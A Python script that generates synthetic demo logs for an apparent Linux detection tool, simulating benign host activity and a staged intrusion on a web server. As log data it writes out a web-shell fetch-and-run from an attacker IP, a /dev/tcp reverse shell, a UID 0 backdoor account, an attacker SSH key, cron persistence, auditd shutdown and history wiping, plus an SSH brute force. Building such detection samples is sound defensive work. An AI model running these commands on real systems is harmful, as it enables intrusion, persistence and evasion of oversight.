#!/usr/bin/env python3
"""gen_samples.py - regenerates the `make run` demo logs in samples/ (see README.md).

Deterministic (fixed seed): running it again gives byte-identical files. It writes
linux-intrusion.ndjson (Bannin agent events of three hosts), auth.log (RFC 3164 syslog of
the bastion host) and audit.log (raw auditd records of the web server).
"""
import calendar
import hashlib
import json
import os
import random
import time

HERE = os.path.dirname(os.path.abspath(__file__))
CH = "Linux-Sysmon/Operational"
rnd = random.Random(20261125)
T0 = calendar.timegm((2026, 11, 25, 9, 30, 0))  # 09:30:00 UTC
events = []
_pid = [2000]


def newpid():
    _pid[0] += rnd.randint(3, 40)
    return _pid[0]


def utc(sec):
    ms = int(round((sec - int(sec)) * 1000))
    return time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(T0 + int(sec))) + ".%03d" % ms


def sha(image):
    return "SHA256=" + hashlib.sha256(image.encode()).hexdigest().upper()


class Proc:
    """A process we can start children from."""

    def __init__(self, host, image, cmd, user, pid=None, cwd="/", logon=0):
        self.host, self.image, self.cmd, self.user = host, image, cmd, user
        self.pid = pid or newpid()
        self.cwd, self.logon = cwd, logon


def spawn(t, parent, image, cmd, user=None, cwd=None, emit=True):
    p = Proc(parent.host, image, cmd, user or parent.user, cwd=cwd or parent.cwd,
             logon=parent.logon)
    if emit:
        events.append((t, {
            "Channel": CH, "EventID": 1, "UtcTime": utc(t), "Computer": parent.host,
            "ProcessId": p.pid, "Image": image, "CommandLine": cmd, "CurrentDirectory": p.cwd,
            "User": p.user, "LogonId": p.logon, "ParentProcessId": parent.pid,
            "ParentImage": parent.image, "ParentCommandLine": parent.cmd,
            "ParentUser": parent.user, "Hashes": sha(image)}))
    if emit and rnd.random() < 0.25:  # a sample of process ends, to keep the file small
        events.append((t + rnd.uniform(0.01, 0.8), {
            "Channel": CH, "EventID": 5, "UtcTime": utc(t + 0.5), "Computer": parent.host,
            "ProcessId": p.pid, "Image": image, "User": p.user}))
    return p


def connect(t, proc, dip, dport, proto="tcp", dhost="", sip=None):
    sips = {"web-01": "10.0.1.10", "build-01": "10.0.1.20", "bastion-01": "10.0.1.5"}
    events.append((t, {
        "Channel": CH, "EventID": 3, "UtcTime": utc(t), "Computer": proc.host,
        "ProcessId": proc.pid, "Image": proc.image, "User": proc.user, "Protocol": proto,
        "Initiated": "true", "SourceIp": sip or ("127.0.0.1" if dip.startswith("127.") else sips[proc.host]),
        "SourcePort": rnd.randint(32768, 60999), "DestinationIp": dip, "DestinationPort": dport,
        "DestinationHostname": dhost}))


def fcreate(t, proc, target, eid=11):
    events.append((t, {
        "Channel": CH, "EventID": eid, "UtcTime": utc(t), "Computer": proc.host,
        "ProcessId": proc.pid, "Image": proc.image, "TargetFilename": target, "User": proc.user}))


# --- long-running processes -------------------------------------------------------------
init = {h: Proc(h, "/usr/lib/systemd/systemd", "/sbin/init", "root", pid=1)
        for h in ("web-01", "build-01", "bastion-01")}
cron = {h: Proc(h, "/usr/sbin/cron", "/usr/sbin/cron -f", "root") for h in init}
sshd = {h: Proc(h, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", "root") for h in init}
apache = Proc("web-01", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start", "www-data", cwd="/")
phpfpm = Proc("web-01", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", "www-data", cwd="/")
app = Proc("web-01", "/usr/bin/python3.11", "/usr/bin/python3 /opt/shop/worker.py", "shop", cwd="/opt/shop")

# --- benign background: cron on every host every 5 minutes --------------------------------
for h in init:
    for k in range(6):
        t = k * 300 + rnd.uniform(0, 2)
        c = spawn(t, cron[h], "/usr/sbin/cron", "/usr/sbin/CRON -f", user="root")
        sh = spawn(t + 0.01, c, "/usr/bin/sh", "/bin/sh -c /usr/local/bin/healthcheck.sh >> /var/log/healthcheck.log 2>&1")
        hc = spawn(t + 0.02, sh, "/usr/bin/bash", "bash /usr/local/bin/healthcheck.sh", user="monitor")
        spawn(t + 0.03, hc, "/usr/bin/hostname", "hostname")
        spawn(t + 0.04, hc, "/usr/bin/uname", "uname -r")
        spawn(t + 0.05, hc, "/usr/bin/df", "df -h /")
        cu = spawn(t + 0.06, hc, "/usr/bin/curl", "curl -s -o /dev/null -w %{http_code} https://status.example.org/ping")
        connect(t + 0.08, cu, "198.18.0.10", 443, dhost="status.example.org")
        if k % 2 == 0:
            s2 = spawn(t + 0.3, c, "/usr/bin/sh", "/bin/sh -c cd / && run-parts --report /etc/cron.hourly")
            spawn(t + 0.31, s2, "/usr/bin/run-parts", "run-parts --report /etc/cron.hourly")
    # hourly logrotate at 09:45 rotates and compresses old logs
    lr = spawn(900 + rnd.uniform(0, 1), init[h], "/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf")
    for name in ("syslog", "auth.log"):
        fcreate(900.5, lr, "/var/log/%s.1" % name)
        spawn(900.6, lr, "/usr/bin/gzip", "gzip /var/log/%s.2" % name)
        spawn(900.7, lr, "/usr/bin/rm", "rm -f /var/log/%s.5.gz" % name)
    res = Proc(h, "/usr/lib/systemd/systemd-resolved", "/lib/systemd/systemd-resolved", "systemd-resolve")
    for k in range(4):
        connect(k * 450 + 10, res, "10.0.0.2", 53, proto="udp")

# --- web-01: normal traffic of the shop ----------------------------------------------------
for k in range(40):
    connect(k * 45 + rnd.uniform(0, 30), app, "10.0.1.30", 5432)
for k in range(12):
    t = k * 150 + rnd.uniform(0, 60)
    # the shop's PHP calls ImageMagick to make thumbnails: a child, but not a shell
    spawn(t, phpfpm, "/usr/bin/convert", "convert /var/www/html/uploads/p%d.jpg -resize 200x200 /var/www/html/thumbs/p%d.jpg" % (k, k), cwd="/var/www/html")
# piped logs of Apache (filtered by the web server rule)
spawn(5, apache, "/usr/bin/sh", "/bin/sh -c /usr/bin/rotatelogs /var/log/apache2/access.%Y%m%d 86400", user="root")

# --- bastion-01: admins log in with ssh, hop to web-01, ssh to localhost ------------------
for k, (who, t) in enumerate([("alice", 130), ("bob", 610), ("alice", 1250)]):
    s = spawn(t, sshd["bastion-01"], "/usr/sbin/sshd", "sshd: %s [priv]" % who, user="root")
    sh = spawn(t + 0.4, s, "/usr/bin/bash", "-bash", user=who, cwd="/home/" + who)
    sh.logon = 1000 + k
    spawn(t + 3, sh, "/usr/bin/ls", "ls -la")
    spawn(t + 6, sh, "/usr/bin/git", "git -C /home/%s/ops pull" % who)
    ssh = spawn(t + 10, sh, "/usr/bin/ssh", "ssh web-01")
    connect(t + 10.1, ssh, "10.0.1.10", 22)
    lo = spawn(t + 40, sh, "/usr/bin/ssh", "ssh -p 22 localhost uptime")
    connect(t + 40.1, lo, "127.0.0.1", 22)
    spawn(t + 50, sh, "/usr/bin/sudo", "sudo systemctl status nginx")
# alice edits her .bashrc with vim (the shell-profile rule ignores editors)
ed = Proc("bastion-01", "/usr/bin/vim.basic", "vim /home/alice/.bashrc", "alice")
fcreate(1290, ed, "/home/alice/.bashrc")

# --- build-01: CI build, package queries, unattended upgrades -----------------------------
runner = Proc("build-01", "/usr/bin/bash", "bash /opt/ci/run-job.sh", "builder", cwd="/srv/ci/shop")
for job in range(3):
    t = 200 + job * 520
    mk = spawn(t, runner, "/usr/bin/make", "make -j2 all test")
    gitp = spawn(t + 0.5, runner, "/usr/bin/git", "git fetch origin")
    rh = spawn(t + 0.6, gitp, "/usr/lib/git-core/git-remote-https", "git-remote-https origin https://git.example.org/shop.git")
    connect(t + 0.7, rh, "198.18.0.20", 443, dhost="git.example.org")
    for i in range(8):
        cc = spawn(t + 1 + i * 2, mk, "/usr/bin/cc", "cc -O2 -c src/mod%d.c -o build/mod%d.o" % (i, i))
        spawn(t + 1.1 + i * 2, cc, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 -quiet src/mod%d.c" % i)
        spawn(t + 1.5 + i * 2, cc, "/usr/bin/as", "as -o build/mod%d.o /tmp/cc%06d.s" % (i, rnd.randint(0, 999999)))
        fcreate(t + 1.6 + i * 2, cc, "/srv/ci/shop/build/mod%d.o" % i)
    ld = spawn(t + 20, mk, "/usr/bin/cc", "cc -o build/shop build/*.o")
    spawn(t + 20.2, ld, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "collect2 -o build/shop")
    spawn(t + 21, mk, "/usr/bin/uname", "uname -m")
    dl = spawn(t + 22, mk, "/usr/bin/curl", "curl -sSL -o /tmp/testdata-%d.tar.gz https://artifacts.example.org/testdata.tar.gz" % job)
    connect(t + 22.1, dl, "198.18.0.30", 443, dhost="artifacts.example.org")
    spawn(t + 25, mk, "/usr/bin/chmod", "chmod +x /tmp/ci-%d/run-tests.sh" % job)
    spawn(t + 26, mk, "/tmp/ci-%d/run-tests.sh" % job, "/tmp/ci-%d/run-tests.sh" % job)
    gob = spawn(t + 30, mk, "/usr/local/go/bin/go", "go test ./...")
    spawn(t + 34, gob, "/tmp/go-build%d/b001/shop.test" % (4000 + job), "/tmp/go-build%d/b001/shop.test -test.v" % (4000 + job))
    dk = spawn(t + 40, mk, "/usr/bin/docker", "docker run --rm -v /srv/ci/shop:/app -w /app node:20 npm test")
    pip = spawn(t + 60, mk, "/usr/bin/python3.11", "python3 -m pip install -r requirements.txt")
    connect(t + 60.5, pip, "151.101.0.223", 443, dhost="pypi.org")
# package queries and an unattended upgrade
for t, cmd in [(330, "dpkg -l"), (700, "apt list --upgradable"), (1400, "dpkg -S /usr/bin/curl")]:
    img = "/usr/bin/dpkg" if cmd.startswith("dpkg") else "/usr/bin/apt"
    spawn(t, runner, img, cmd)
ua = spawn(1500, init["build-01"], "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/unattended-upgrade", user="root")
ua.image = "/usr/bin/unattended-upgrade"
meth = spawn(1501, ua, "/usr/lib/apt/methods/http", "/usr/lib/apt/methods/http", user="_apt")
connect(1501.2, meth, "151.101.2.132", 80, dhost="deb.debian.org")
dp = spawn(1510, ua, "/usr/bin/dpkg", "/usr/bin/dpkg --status-fd 10 --configure --pending")
fcreate(1511, dp, "/lib/systemd/system/openssh-server.service")
fcreate(1511.2, dp, "/etc/cron.daily/apt-compat")
post = spawn(1512, dp, "/usr/bin/sh", "/bin/sh /var/lib/dpkg/info/openssh-server.postinst configure")
dsi = spawn(1512.5, post, "/usr/bin/deb-systemd-invoke", "/usr/bin/perl /usr/bin/deb-systemd-invoke restart ssh.service")
spawn(1513, dsi, "/usr/bin/systemctl", "systemctl restart ssh.service")
spawn(1514, post, "/usr/bin/chmod", "chmod 4755 /usr/lib/openssh/ssh-keysign")

# --- the intrusion on web-01 ---------------------------------------------------------------
# 09:41 a web shell uploaded through the shop's image upload form runs its first commands.
T = 660.0
ws = spawn(T, apache, "/usr/bin/sh", "sh -c id;uname -a", cwd="/var/www/html/uploads")
spawn(T + 0.05, ws, "/usr/bin/id", "id")
spawn(T + 0.08, ws, "/usr/bin/uname", "uname -a")
ws2 = spawn(T + 31, apache, "/usr/bin/sh", "sh -c cat /etc/passwd; ps aux; ip a; sudo -l", cwd="/var/www/html/uploads")
spawn(T + 31.02, ws2, "/usr/bin/cat", "cat /etc/passwd")
spawn(T + 31.05, ws2, "/usr/bin/ps", "ps aux")
spawn(T + 31.09, ws2, "/usr/bin/ip", "ip a")
spawn(T + 31.12, ws2, "/usr/bin/sudo", "sudo -l")
# Download a second stage into a hidden directory in /tmp, make it executable, run it.
ws3 = spawn(T + 95, apache, "/usr/bin/sh", "sh -c mkdir -p /tmp/.x && curl -s -o /tmp/.x/kworker http://203.0.113.50/k && chmod +x /tmp/.x/kworker && /tmp/.x/kworker", cwd="/var/www/html/uploads")
spawn(T + 95.01, ws3, "/usr/bin/mkdir", "mkdir -p /tmp/.x")
cu = spawn(T + 95.03, ws3, "/usr/bin/curl", "curl -s -o /tmp/.x/kworker http://203.0.113.50/k")
connect(T + 95.04, cu, "203.0.113.50", 80)
fcreate(T + 95.6, cu, "/tmp/.x/kworker")
spawn(T + 95.7, ws3, "/usr/bin/chmod", "chmod +x /tmp/.x/kworker")
kw = spawn(T + 95.8, ws3, "/tmp/.x/kworker", "/tmp/.x/kworker")
connect(T + 96.5, kw, "203.0.113.50", 8443)
# Reverse shell back to the attacker.
rs = spawn(T + 140, apache, "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1", cwd="/var/www/html/uploads")
connect(T + 140.1, rs, "203.0.113.50", 4444)
sh = spawn(T + 140.2, rs, "/usr/bin/bash", "bash -i", cwd="/var/www/html/uploads")
spawn(T + 170, sh, "/usr/bin/find", "find / -perm -4000 -type f")
# Local privilege escalation with an exploit dropped next to the implant.
ex = spawn(T + 230, sh, "/tmp/.x/pe", "/tmp/.x/pe", cwd="/tmp/.x")
root = spawn(T + 232, ex, "/usr/bin/bash", "/bin/bash -p", user="root", cwd="/tmp/.x")
# Persistence: cron, an SSH key, a UID 0 account, auditd stopped.
spawn(T + 260, root, "/usr/bin/sh", "sh -c (crontab -l; echo \"*/5 * * * * /tmp/.x/kworker\") | crontab -")
ct = spawn(T + 260.1, root, "/usr/bin/crontab", "crontab -")
fcreate(T + 260.2, ct, "/var/spool/cron/crontabs/root")
ak = spawn(T + 300, root, "/usr/bin/bash", "bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK3yq attacker >> /root/.ssh/authorized_keys")
fcreate(T + 300.05, ak, "/root/.ssh/authorized_keys")
spawn(T + 330, root, "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd")
fcreate(T + 330.1, Proc("web-01", "/usr/sbin/useradd", "", "root"), "/etc/passwd")
spawn(T + 360, root, "/usr/bin/cat", "cat /etc/shadow")
spawn(T + 400, root, "/usr/bin/systemctl", "systemctl stop auditd")
# Covering tracks.
spawn(T + 520, root, "/usr/bin/bash", "bash -c history -c; unset HISTFILE")
spawn(T + 521, root, "/usr/bin/rm", "rm -f /root/.bash_history")
spawn(T + 522, root, "/usr/bin/ln", "ln -sf /dev/null /var/www/.bash_history")

events.sort(key=lambda e: e[0])
with open(os.path.join(HERE, "linux-intrusion.ndjson"), "w") as f:
    for _, e in events:
        f.write(json.dumps(e, separators=(",", ":")) + "\n")

# --- auth.log of bastion-01: brute force, one success, sudo refused -----------------------
lines = []


def syslog(sec, prog, pid, msg):
    ts = time.strftime("%b %d %H:%M:%S", time.gmtime(T0 + int(sec)))
    lines.append((sec, "%s bastion-01 %s[%d]: %s" % (ts, prog, pid, msg)))


for k, (who, t) in enumerate([("alice", 130), ("bob", 610), ("alice", 1250)]):
    p = 3100 + k * 17
    syslog(t, "sshd", p, "Accepted publickey for %s from 10.0.2.%d port %d ssh2: ED25519 SHA256:Yl0q3dpV7mBX2p9mqkRkF8vXh1jZ2gq0N5CwYz7cR1s" % (who, 11 + k, 50100 + k))
    syslog(t, "sshd", p, "pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)" % (who, 1000 + k))
    syslog(t + 50, "sudo", p + 5, "%s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl status nginx" % (who, k, who))
    syslog(t + 50, "sudo", p + 5, "pam_unix(sudo:session): session opened for user root(uid=0) by %s(uid=%d)" % (who, 1000 + k))
users = ["root", "admin", "root", "ubuntu", "test", "oracle", "root", "deploy", "postgres", "deploy", "root", "deploy"]
for i, u in enumerate(users):
    t = 420 + i * 7
    p = 3400 + i * 3
    if u in ("admin", "ubuntu", "test", "oracle", "postgres"):
        syslog(t, "sshd", p, "Invalid user %s from 203.0.113.77 port %d" % (u, 41000 + i))
        syslog(t + 2, "sshd", p, "Failed password for invalid user %s from 203.0.113.77 port %d ssh2" % (u, 41000 + i))
    else:
        syslog(t + 2, "sshd", p, "Failed password for %s from 203.0.113.77 port %d ssh2" % (u, 41000 + i))
    syslog(t + 3, "sshd", p, "Connection closed by authenticating user %s 203.0.113.77 port %d [preauth]" % (u, 41000 + i))
syslog(520, "sshd", 3490, "Accepted password for deploy from 203.0.113.77 port 41090 ssh2")
syslog(520, "sshd", 3490, "pam_unix(sshd:session): session opened for user deploy(uid=1003) by (uid=0)")
syslog(560, "sudo", 3511, "pam_unix(sudo:auth): authentication failure; logname=deploy uid=1003 euid=0 tty=/dev/pts/3 ruser=deploy rhost=  user=deploy")
syslog(575, "sudo", 3511, "deploy : 3 incorrect password attempts ; TTY=pts/3 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash")
syslog(590, "sshd", 3490, "pam_unix(sshd:session): session closed for user deploy")
lines.sort(key=lambda x: x[0])
with open(os.path.join(HERE, "auth.log"), "w") as f:
    for _, l in lines:
        f.write(l + "\n")

# --- audit.log of web-01: the reverse shell and the implant, as auditd logs them ----------


def hexarg(s):
    return s.encode().hex().upper()


alines = []
serial = [8800]


def audit_exec(sec, pid, ppid, uid, exe, comm, argv, cwd):
    serial[0] += 1
    stamp = "audit(%d.%03d:%d)" % (T0 + int(sec), int((sec % 1) * 1000), serial[0])
    items = 2
    alines.append("type=SYSCALL msg=%s: arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2a1e0 a1=55d0c2a2f0 a2=55d0c2a310 a3=8 items=%d ppid=%d pid=%d auid=4294967295 uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=(none) ses=4294967295 comm=\"%s\" exe=\"%s\" subj=unconfined key=\"exec\"" % (stamp, items, ppid, pid, uid, uid, uid, uid, uid, uid, uid, uid, comm, exe))
    args = " ".join("a%d=%s" % (i, ('"%s"' % a) if all(c.isalnum() or c in "-_/." for c in a) else hexarg(a)) for i, a in enumerate(argv))
    alines.append("type=EXECVE msg=%s: argc=%d %s" % (stamp, len(argv), args))
    alines.append("type=CWD msg=%s: cwd=\"%s\"" % (stamp, cwd))
    alines.append("type=PATH msg=%s: item=0 name=\"%s\" inode=%d dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0" % (stamp, exe, 1000 + serial[0]))
    alines.append("type=PATH msg=%s: item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=1835 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0" % stamp)
    alines.append("type=PROCTITLE msg=%s: proctitle=%s" % (stamp, hexarg("\0".join(argv))))
    alines.append("type=EOE msg=%s: " % stamp)


audit_exec(640, 2811, 1702, 33, "/usr/bin/convert", "convert", ["convert", "/var/www/html/uploads/p3.jpg", "-resize", "200x200", "/var/www/html/thumbs/p3.jpg"], "/var/www/html")
audit_exec(T, 2901, 1650, 33, "/usr/bin/dash", "sh", ["sh", "-c", "id;uname -a"], "/var/www/html/uploads")
audit_exec(T + 95.03, 2950, 2948, 33, "/usr/bin/curl", "curl", ["curl", "-s", "-o", "/tmp/.x/kworker", "http://203.0.113.50/k"], "/var/www/html/uploads")
audit_exec(T + 95.8, 2957, 2948, 33, "/tmp/.x/kworker", "kworker", ["/tmp/.x/kworker"], "/var/www/html/uploads")
audit_exec(T + 140, 3002, 1650, 33, "/usr/bin/bash", "bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.50/4444 0>&1"], "/var/www/html/uploads")
audit_exec(T + 200, 3060, 3003, 33, "/usr/bin/ls", "ls", ["ls", "-la", "/dev/shm"], "/var/www/html/uploads")
with open(os.path.join(HERE, "audit.log"), "w") as f:
    for l in alines:
        f.write("node=web-01 " + l + "\n")
print("%d agent events, %d auth.log lines, %d audit records" % (len(events), len(lines), len(alines)))
